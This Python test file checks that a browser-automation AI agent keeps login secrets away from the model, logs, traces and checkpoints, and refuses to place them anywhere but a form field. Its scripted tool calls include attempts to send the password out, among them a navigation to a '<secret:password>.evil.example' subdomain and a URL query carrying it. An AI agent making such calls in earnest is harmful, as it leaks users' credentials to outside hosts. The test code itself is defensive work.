"""A whole task with secrets: the site gets them, and nobody else, however the site says them back."""

from __future__ import annotations

import base64
import io
import json
import logging
import time
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus, urlsplit

import msgspec
import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from cdp_agent.agent.agent import Agent
from cdp_agent.agent.base.task import Limits
from cdp_agent.agent.state.checkpoint import FILE
from cdp_agent.browser import Browser
from cdp_agent.cli.terminal.live import Live
from cdp_agent.errors import SetupError
from cdp_agent.events import AgentAction, BrowserActionCompleted, Event
from cdp_agent.page.page import Page
from cdp_agent.page.tab.dialog_policy import DialogPolicy
from cdp_agent.page.tab.dialogs import dialogs_answered
from cdp_agent.security.secrets import GivenSecret, Secret, Totp
from cdp_agent.trace import TraceWriter
from fixtures.replay import reply, tool_call
from tests.agents import DONE, of, play, result_of, scripted, told
from tests.conftest import Serve, on_other_site

USER, PASSWORD, KEY = "annabelle", 'kiwi "77" <plum>&é', "JBSWY3DPEHPK3PXP"

LOGIN = """<title>Log in</title><form method=post action=/login>
<input name=user aria-label=User><input name=password aria-label=Password type=password>
<input name=code aria-label=Code autocomplete=one-time-code><button>Log in</button></form>"""

# All that a page can do with what it was given, of which a model hears.
ECHO = """<!doctype html><title>Hello {user}, {password}</title>
<h1>{password}</h1><p>The p<b>assword</b> of <i>{user}</i> is {password}, and the code was {code}.</p>
<p>{spread}</p><p>{encoded}</p><p>{escaped}</p>
<a href="/next?password={quoted}&code={code}">Go on</a>
<img alt="{password}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<input aria-label="Shown" value="{password}"><input aria-label="Empty" placeholder="{password}">
<textarea aria-label="Area">{password} {user}</textarea><select aria-label="List"><option>{password}</select>
<button aria-label="{password}">x</button><div title="{password}" data-x="{password}">y</div>
<p style="text-transform:uppercase">{user}</p><p>{long}</p>
<a href="/file" download="{user} {code}.txt" id=file>File</a>
<script type="application/ld+json">{{"name": {json}}}</script>
<iframe name="{user}" src="{frame}?said={quoted}"></iframe>
<iframe srcdoc="<p>{attribute}</p>"></iframe>
<button onclick="confirm('Really, ' + {json} + '?'); document.querySelector('#file').click();
  fetch('/missing/{quoted}');
  history.pushState(0, '', '/at?password={quoted}'); document.title = 'Again ' + {json}">Say it</button>
<script>console.log({json}); alert('Your password is ' + {json}); window.name = {json};</script>"""


class Site:
    """A site that one can log in to, which then says back all that it was told."""

    def __init__(self, server: HTTPServer) -> None:
        self.got: list[dict[str, str]] = []
        self.url = server.url_for("/login")
        self._frame = on_other_site(server.url_for("/frame"))
        server.expect_request("/login", method="GET").respond_with_data(LOGIN, content_type="text/html; charset=utf-8")
        server.expect_request("/login", method="POST").respond_with_handler(self._log_in)
        server.expect_request("/frame").respond_with_handler(self._said)
        server.expect_request("/file").respond_with_data("x", content_type="application/octet-stream")

    def _log_in(self, request: Request) -> Response:
        form = request.form.to_dict()
        self.got.append(form)
        password, plain = _attribute(form["password"]), form["password"]
        page = ECHO.format(
            **form | {"password": password},
            spread=_attribute(" ".join(plain)),
            encoded=base64.b64encode(f"{form['user']}:{plain}".encode()).decode(),
            escaped=_attribute(json.dumps(plain) + quote(plain) + quote_plus(plain)),
            quoted=quote(plain),
            long=_attribute("x" * 850 + plain),
            json=_script(plain),
            frame=self._frame,
            attribute=_attribute(password),
        )
        return Response(page, content_type="text/html; charset=utf-8")

    def _said(self, request: Request) -> Response:
        return Response(f"<p>{_attribute(request.args['said'])}</p>", content_type="text/html; charset=utf-8")


def _attribute(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def _script(text: str) -> str:
    """The text in JavaScript, which may stand in an attribute."""
    return "'" + "".join(f"\\u{ord(each):04x}" for each in text) + "'"


def _secrets(site: Site) -> dict[str, GivenSecret]:
    origin = "://".join(urlsplit(site.url)[:2])
    return {
        "user": USER,
        "password": Secret(PASSWORD, [origin], purpose="The account of Anna"),
        "code": Totp(KEY, [origin]),
    }


def _traces_of(secret: str) -> list[str]:
    """What the secret may not be found as."""
    packed = base64.b64encode(secret.encode()).decode().rstrip("=")
    return [secret, secret.lower(), json.dumps(secret)[1:-1], quote(secret), quote_plus(secret), packed[:-2]]


def found_in(text: str, code: str) -> list[str]:
    """The secrets that stand in a text, also in one that was written as JSON."""
    texts = [text, text.replace('\\"', '"'), text.lower()]
    traces = [each for secret in (USER, PASSWORD, code, KEY) for each in _traces_of(secret)]
    return [each for each in traces if any(each in written for written in texts)]


def parts_of(written: list[dict[str, Any]]) -> set[str]:
    """All that stands in these, as JSON, once: each has what those before had."""
    parts = set[str]()
    for name, value in (each for whole in written for each in whole.items()):
        items = value if isinstance(value, list) else [value]
        parts |= {json.dumps({name: item}, ensure_ascii=False) for item in items}
    return parts


STEPS = [
    reply(
        ("fill", {"ref": "{{ref:textbox User}}", "value": "<secret:user>"}),
        ("fill", {"ref": "{{ref:textbox Password}}", "value": "<secret:password>"}),
        ("fill", {"ref": "{{ref:textbox Code}}", "value": "<secret:code>"}),
        text="I fill in <secret:user>.",
    ),
    tool_call("click", {"ref": "{{ref:button Log in}}"}),
    tool_call("snapshot", {}),
    tool_call("search_page", {"pattern": "kiwi"}),
    tool_call("search_page", {"pattern": "[a-z]", "regex": True, "context_chars": 0, "max_results": 50}),
    tool_call("find_elements", {"selector": "*", "attributes": ["href", "value", "title", "data-x", "src"]}),
    tool_call("click", {"ref": "{{ref:button Say it}}"}),
    tool_call("snapshot", {}),
    tool_call("fill", {"ref": "{{ref:textbox Empty}}", "value": "<secret:password> and <secret:user>"}),
    tool_call("select", {"ref": "{{ref:combobox List}}", "value": "<secret:user>"}),
    tool_call("click", {"ref": "E99999"}),
    tool_call("goto", {"url": "/nowhere"}),
    tool_call("extract", {"description": "All of it."}),
    reply(text="All of it was <secret:password>."),
    tool_call("done", {"result": "Logged in as <secret:user>."}),
]


async def test_no_secret_is_seen_by_a_model_or_kept_anywhere(
    browser: Browser,
    page: Page,
    httpserver: HTTPServer,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    site, shown, kept = Site(httpserver), io.StringIO(), []
    caplog.set_level(logging.DEBUG)
    logging.getLogger("werkzeug").setLevel(logging.ERROR)  # the site's own log: the site was told
    options: dict[str, Any] = {
        "secrets": _secrets(site),
        "checkpoint": tmp_path / "run",
        "max_actions_per_step": 3,
    }
    events: list[Event] = []

    with (
        scripted(browser, STEPS, **options) as (agent, server),
        TraceWriter(tmp_path / "trace.jsonl") as trace,
        Live(shown, "scripted") as live,
        dialogs_answered(DialogPolicy.all("accept")),
    ):
        async for event in agent.stream("Log in", url=site.url, page=page):
            events.append(event)
            trace.write(event)
            live.show(event)
            print(event)
            if (file := tmp_path / "run" / FILE).exists():
                kept.append(file.read_text())

    assert [(each["user"], each["password"]) for each in site.got] == [(USER, PASSWORD)]
    code = site.got[0]["code"]
    assert code in {Totp(KEY).code(time.time() - back) for back in range(0, 120, 10)}
    assert result_of(events).error is None
    assert result_of(events).answer == "Logged in as <secret:user>."
    written = capfd.readouterr()
    found = {
        "requests": found_in("\n".join(parts_of(server.requests)), code),
        "events": found_in(msgspec.json.encode(events).decode(), code),
        "trace": found_in((tmp_path / "trace.jsonl").read_text(), code),
        "checkpoint": found_in("\n".join(parts_of([json.loads(each) for each in kept])), code),
        "log": found_in("\n".join(record.getMessage() for record in caplog.records), code),
        "live": found_in(shown.getvalue(), code),
        "output": found_in(written.out + written.err, code),
    }
    assert found == {where: [] for where in found}
    assert len(kept) > 10
    assert json.dumps(server.requests).count("<secret:password>") > 30


async def test_the_model_is_told_which_secrets_there_are(browser: Browser, page: Page, serve: Serve) -> None:
    url = serve("<title>Here</title>")
    origin = "://".join(urlsplit(url)[:2])

    _, server = await play(
        browser, page, [DONE], url=url, secrets={"password": Secret(PASSWORD, [origin], purpose="The account of Anna")}
    )

    assert f"- <secret:password>: The account of Anna; for {origin}" in str(server.turns[0]["messages"])


NO_FIELDS: list[tuple[str, dict[str, Any]]] = [
    ("goto", {"url": "{url}?q=<secret:password>"}),
    ("goto", {"url": "https://<secret:password>.evil.example/"}),
    ("press", {"key": "<secret:password>"}),
    ("wait_for", {"text": "<secret:password>"}),
    ("upload", {"ref": "E1", "files": ["/tmp/<secret:password>"]}),
]


async def test_a_secret_is_no_argument_of_anything_but_a_field(browser: Browser, page: Page, serve: Serve) -> None:
    url = serve("<input aria-label=F autofocus>")
    replies = [
        tool_call(name, json.loads(json.dumps(arguments).replace("{url}", url))) for name, arguments in NO_FIELDS
    ]

    bounds = Limits(max_errors=99, max_errors_in_a_row=99)

    _, server = await play(browser, page, [*replies, DONE], url=url, secrets={"password": PASSWORD}, limits=bounds)

    refused = "Nothing was done: a secret is given to fill or select"
    assert [refused in each for each in told(server, len(NO_FIELDS) + 1)] == [True] * len(NO_FIELDS)
    assert page.url == url
    assert await page.evaluate("document.querySelector('input').value") == ""


async def test_a_secret_is_not_to_be_had_piece_by_piece(browser: Browser, page: Page, serve: Serve) -> None:
    url = serve("<p>It says kiwi-77-plum here.")
    searches: list[dict[str, Any]] = [
        {"pattern": "iwi-7"},
        {"pattern": "k.{3}", "regex": True, "context_chars": 0},
        {"pattern": "says", "context_chars": 7},
    ]
    replies = [tool_call("search_page", each) for each in searches]

    events, _ = await play(browser, page, [*replies, DONE], url=url, secrets={"password": "kiwi-77-plum"})

    found = [each.text for each in of(events, BrowserActionCompleted) if each.action == "search_page"]
    assert len(found) == len(searches)
    assert [text for text in found if "wi" in text.replace("iwi-7", "", 1)] == []  # what was asked for is said again


async def test_a_secret_that_the_task_says_is_masked_too_and_may_still_be_filled_in(
    browser: Browser, page: Page, serve: Serve
) -> None:
    url = serve("<input aria-label=F>")
    fill = tool_call("fill", {"ref": "{{ref:textbox F}}", "value": "kiwi-77-plum"})  # a model that knows it

    events, server = await play(
        browser, page, [fill, DONE], url=url, task="Fill in kiwi-77-plum", secrets={"password": "kiwi-77-plum"}
    )

    assert await page.evaluate("document.querySelector('input').value") == "kiwi-77-plum"
    assert of(events, AgentAction)[0].arguments["value"] == "<secret:password>"
    assert "kiwi" not in json.dumps(server.requests) + msgspec.json.encode(events).decode()


async def test_a_run_that_goes_on_needs_its_secrets_again(
    browser: Browser, page: Page, serve: Serve, tmp_path: Path
) -> None:
    folder = tmp_path / "run"
    replies = [tool_call("wait", {"seconds": 0}), tool_call("abort", {"reason": "no"})]
    await play(
        browser, page, replies, url=serve("<input aria-label=F>"), secrets={"password": PASSWORD}, checkpoint=folder
    )

    with pytest.raises(SetupError, match="The run had secrets that were not written down: give password again"):
        Agent.resume(browser, folder, api_key="key")


def test_a_bare_secret_needs_an_address_to_begin_at(browser: Browser) -> None:
    agent = Agent(browser, model="openai/x", api_key="k", secrets={"password": PASSWORD})

    with pytest.raises(SetupError, match="Say where the secret 'password' may be filled in"):
        agent.stream("Log in")
